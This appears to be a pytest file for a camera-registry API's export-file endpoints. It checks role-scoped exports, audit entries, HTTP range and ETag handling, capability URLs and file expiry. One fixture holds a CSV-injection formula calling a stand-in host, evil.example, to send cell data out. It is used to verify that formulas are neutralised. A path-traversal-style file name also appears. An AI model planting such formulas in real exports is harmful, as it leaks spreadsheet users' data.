"""POST /api/v1/exports and /api/v1/exports/files/<id>.<ext>: an export run once, read as often as a GIS
client likes (docs/exports-for-gis.md), on both databases, for each role.

The file is the export's own bytes (the same writer as the streamed GET: formulas quoted, licences
credited), served with Content-Length, a strong ETag, Range/If-Range and HEAD; one audit entry for
the POST, none for the reads; unknown, malformed, expired and another user's files are the same 404.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
import sqlalchemy as sa

from observo.cli import main
from observo.domain.csv_cells import CONTROL_STARTS, FORMULA_STARTS
from observo.models import AuditEntry
from observo.services import export_files
from tests import factories

REASON = "PG-2026-0921 richiesta GIS"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Apri")'
OPEN_DATA = {"visibility": "public", "name": FORMULA, "licence": "CC-BY-4.0", "source": "csv_import"}


@pytest.fixture
def world(session):
    town = factories.org(session, "gis-town", public_precision_m=100)
    other = factories.org(session, "gis-other")
    force = factories.org(session, "gis-cc", kind="carabinieri")
    region = factories.org(session, "gis-regione", kind="public_body")
    lon, lat = factories.TURIN
    cameras = {
        "public": factories.camera(
            session,
            town,
            lon,
            lat,
            visibility="public",
            name=FORMULA,
            licence="CC-BY-4.0",
            source="csv_import",
        ),
        "shared": factories.camera(session, town, lon + 0.001, lat, visibility="shared"),
        "private": factories.camera(session, town, lon + 0.002, lat, visibility="private"),
        "elsewhere": factories.camera(session, other, lon, lat + 0.001, visibility="private"),
    }
    callers = {
        "anonymous": {},
        "officer": factories.headers_for(session, town, "viewer"),
        "other officer": factories.headers_for(session, other, "viewer"),
        "state force": factories.headers_for(session, force, "viewer"),
        "admin": factories.headers_for(session, region, "admin"),
    }
    readable = {
        "anonymous": {"public"},
        "officer": {"public", "shared", "private"},
        "other officer": {"public"},  # town's public camera only: gis-other's own is not in `owner`
        "state force": {"public", "shared"},
        "admin": {"public", "shared", "private"},
    }
    return {"cameras": cameras, "callers": callers, "readable": readable}


def audit_head(session) -> int:
    session.expire_all()
    return session.scalar(sa.select(sa.func.coalesce(sa.func.max(AuditEntry.id), 0)))


def entries_after(session, start: int) -> list[tuple[str, str | None, int | None]]:
    session.expire_all()
    rows = session.scalars(sa.select(AuditEntry).where(AuditEntry.id > start).order_by(AuditEntry.id))
    return [(entry.action, entry.reason, entry.result_count) for entry in rows]


def ask(client, headers, fmt="geojson", **fields):
    body = {"f": fmt, "owner": "gis-town", **fields}
    if headers:
        body.setdefault("reason", REASON)
    return client.post("/api/v1/exports", json=body, headers=headers)


def made(client, headers, fmt="geojson", **fields) -> str:
    """The path of a new export file."""
    response = ask(client, headers, fmt, **fields)
    assert response.status_code == 201, response.get_data(as_text=True)
    return response.headers["Location"]


def ids_in(world, names) -> set[int]:
    return {world["cameras"][name].id for name in names}


def assert_no_such_file(response) -> None:
    assert response.status_code == 404, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"
    assert response.json["code"] == "not_found"


# --- the export, once, for each role ---


@pytest.mark.parametrize("role", ["anonymous", "officer", "other officer", "state force", "admin"])
def test_each_role_gets_its_own_scope_in_a_file_audited_once(client, session, world, role):
    headers = world["callers"][role]
    start = audit_head(session)
    response = ask(client, headers)
    assert response.status_code == 201, response.get_data(as_text=True)
    body = response.json
    path = response.headers["Location"]
    assert path.startswith("/api/v1/exports/files/") and path.endswith(".geojson")
    assert body["href"].endswith(path) and body["href"].startswith("http")
    assert body["media_type"] == "application/geo+json"
    expected = ids_in(world, world["readable"][role])
    assert body["count"] == len(expected)
    for _read in range(3):  # a GIS client reads it as often as it likes
        answer = client.get(path, headers=headers)
        assert answer.status_code == 200 and answer.mimetype == "application/geo+json"
        assert answer.headers["Content-Length"] == str(body["size"]) == str(len(answer.data))
        assert answer.headers["ETag"] == body["etag"] == f'"{hashlib.sha256(answer.data).hexdigest()}"'
        assert answer.headers["Accept-Ranges"] == "bytes"
        assert answer.headers["Cache-Control"] == "private, no-store"
        assert {feature["id"] for feature in json.loads(answer.data)["features"]} == expected
    logged = entries_after(session, start)
    if role == "anonymous":
        assert logged == []  # public data: never logged by query
    else:
        assert logged == [("export.geojson", REASON, len(expected))]


def test_a_signed_in_caller_needs_a_reason_and_nothing_is_written(client, session, world, app):
    folder = export_files.folder_of(app.config["OBSERVO_SETTINGS"].instance_path)
    before = set(folder.glob("*")) if folder.exists() else set()
    start = audit_head(session)
    response = client.post("/api/v1/exports", json={"f": "csv"}, headers=world["callers"]["officer"])
    assert response.status_code == 422 and response.json["errors"][0]["pointer"] == "/reason"
    assert entries_after(session, start) == []
    assert (set(folder.glob("*")) if folder.exists() else set()) <= before


@pytest.mark.parametrize(
    "body", [{"f": "shp"}, {"f": "csv", "limit": 0}, {"f": "csv", "colour": "red"}, {"owner": "gis-town"}]
)
def test_bad_requests_are_refused(client, world, body):
    response = client.post("/api/v1/exports", json=body)
    assert response.status_code in (400, 422) and response.mimetype == "application/problem+json"


@pytest.mark.parametrize("fmt", ["geojson", "csv", "kml", "osm"])
def test_the_file_is_the_streamed_export_byte_for_byte(client, world, fmt):
    officer = world["callers"]["officer"]
    path = made(client, officer, fmt)
    streamed = client.get(f"/api/v1/exports?f={fmt}&owner=gis-town&reason={REASON}", headers=officer)
    served = client.get(path)
    assert served.status_code == 200 and served.data == streamed.data
    assert served.mimetype == streamed.mimetype
    assert served.headers["X-Attribution"] == streamed.headers["X-Attribution"]  # the CC-BY-4.0 row
    assert served.headers["Link"] == streamed.headers["Link"]
    assert served.headers["Content-Disposition"] == streamed.headers["Content-Disposition"]


def test_the_csv_file_keeps_formulas_quoted_and_the_licence_column(client, world):
    rows = list(csv.DictReader(io.StringIO(client.get(made(client, {}, "csv")).get_data(as_text=True))))
    assert len(rows) == 1 and rows[0]["licence"] == "CC-BY-4.0"
    for cell in rows[0].values():
        assert not (cell.startswith(CONTROL_STARTS) or cell.lstrip().startswith(FORMULA_STARTS)), cell
    assert rows[0]["name"] == "'" + FORMULA


# --- ranges, HEAD, conditional requests ---


def test_head_ranges_and_if_range(client, world):
    path = made(client, world["callers"]["officer"])
    whole = client.get(path)
    data, etag = whole.data, whole.headers["ETag"]
    head = client.head(path)
    assert head.status_code == 200 and head.data == b""
    assert head.headers["Content-Length"] == str(len(data)) and head.headers["ETag"] == etag
    assert head.headers["Accept-Ranges"] == "bytes"

    part = client.get(path, headers={"Range": "bytes=10-29"})
    assert part.status_code == 206 and part.data == data[10:30]
    assert part.headers["Content-Range"] == f"bytes 10-29/{len(data)}"
    assert part.headers["Content-Length"] == "20"
    tail = client.get(path, headers={"Range": "bytes=-16"})
    assert tail.status_code == 206 and tail.data == data[-16:]
    pieces = [
        client.get(path, headers={"Range": f"bytes={n}-{n + 99}"}).data for n in range(0, len(data), 100)
    ]
    assert b"".join(pieces) == data  # GDAL's way: block after block

    same = client.get(path, headers={"Range": "bytes=0-9", "If-Range": etag})
    assert same.status_code == 206 and same.data == data[:10]
    changed = client.get(path, headers={"Range": "bytes=0-9", "If-Range": '"another-version"'})
    assert changed.status_code == 200 and changed.data == data  # not the version asked about: all of it
    several = client.get(path, headers={"Range": "bytes=0-9,20-29"})
    assert several.status_code == 200 and several.data == data  # one range per request; else the whole
    beyond = client.get(path, headers={"Range": f"bytes={len(data) + 10}-"})
    assert beyond.status_code == 416
    assert client.get(path, headers={"If-None-Match": etag}).status_code == 304


# --- who may read a file ---


def test_the_url_is_the_capability_but_not_for_another_user(client, world):
    officer = world["callers"]["officer"]
    path = made(client, officer)
    assert client.get(path).status_code == 200  # no credentials: whoever holds the URL (QGIS, GDAL)
    assert client.get(path, headers=officer).status_code == 200  # the one who asked
    for role in ("other officer", "state force", "admin"):
        assert_no_such_file(client.get(path, headers=world["callers"][role]))
        assert client.head(path, headers=world["callers"][role]).status_code == 404
    assert_problem_401(client.get(path, headers=factories.auth("not-a-token")))


def assert_problem_401(response) -> None:
    assert response.status_code == 401 and response.mimetype == "application/problem+json"


def test_a_public_file_is_readable_by_anyone(client, world):
    path = made(client, {})
    for role in ("anonymous", "officer", "other officer", "admin"):
        assert client.get(path, headers=world["callers"][role]).status_code == 200


def test_unknown_malformed_and_wrongly_named_files_are_the_same_404(client, world):
    path = made(client, world["callers"]["officer"])
    file_id = path.rsplit("/", 1)[1].split(".")[0]
    expected = None
    for name in (
        "A" * 32 + ".geojson",  # well formed, never made
        f"{file_id}.csv",  # made, but not in this format
        f"{file_id[:-1]}.geojson",  # too short
        "..secret_key",  # never a path: only an id's own characters reach the disk
        f"{file_id}",
    ):
        response = client.get(f"/api/v1/exports/files/{name}")
        assert_no_such_file(response)
        body = {key: value for key, value in response.json.items() if key not in ("instance", "request_id")}
        assert expected is None or body == expected
        expected = body


def test_an_expired_file_is_gone_and_answers_as_an_unknown_one(client, app, world, configure):
    folder = export_files.folder_of(app.config["OBSERVO_SETTINGS"].instance_path)
    configure(export_file_ttl_s=0)  # expired as soon as made
    path = made(client, world["callers"]["officer"])
    file_id = path.rsplit("/", 1)[1].split(".")[0]
    expired = client.get(path)
    assert_no_such_file(expired)
    unknown = client.get("/api/v1/exports/files/" + "B" * 32 + ".geojson")
    assert expired.json["detail"] == unknown.json["detail"]
    assert not list(folder.glob(f"{file_id}.*"))  # removed on the way: nothing survives its TTL


def test_the_command_removes_expired_files_and_keeps_live_ones(client, app, world, configure):
    folder = export_files.folder_of(app.config["OBSERVO_SETTINGS"].instance_path)
    live = made(client, world["callers"]["officer"]).rsplit("/", 1)[1].split(".")[0]
    configure(export_file_ttl_s=0)
    expired = made(client, world["callers"]["officer"]).rsplit("/", 1)[1].split(".")[0]
    # Listed before anything reads them: only the command can have removed the expired one.
    assert list(folder.glob(f"{expired}.*"))
    result = app.test_cli_runner().invoke(main, ["purge-exports"])
    assert result.exit_code == 0, result.stderr
    assert "expired export files removed" in result.stderr
    assert not list(folder.glob(f"{expired}.*"))
    assert {path.suffix for path in folder.glob(f"{live}.*")} == {".data", ".json"}


# --- the anonymous GET: public data with a length and ranges ---


def test_the_public_get_has_a_length_an_etag_and_ranges(client, world):
    url = "/api/v1/exports?f=geojson&owner=gis-town"
    whole = client.get(url)
    assert whole.status_code == 200 and whole.headers["Content-Length"] == str(len(whole.data))
    assert whole.headers["Accept-Ranges"] == "bytes"
    assert whole.headers["ETag"] == f'"{hashlib.sha256(whole.data).hexdigest()}"'
    assert "CC-BY-4.0" in whole.headers["X-Attribution"]
    part = client.get(url, headers={"Range": "bytes=5-14", "If-Range": whole.headers["ETag"]})
    assert part.status_code == 206 and part.data == whole.data[5:15]
    head = client.head(url)
    assert head.status_code == 200 and head.headers["Content-Length"] == str(len(whole.data))
    assert head.data == b""
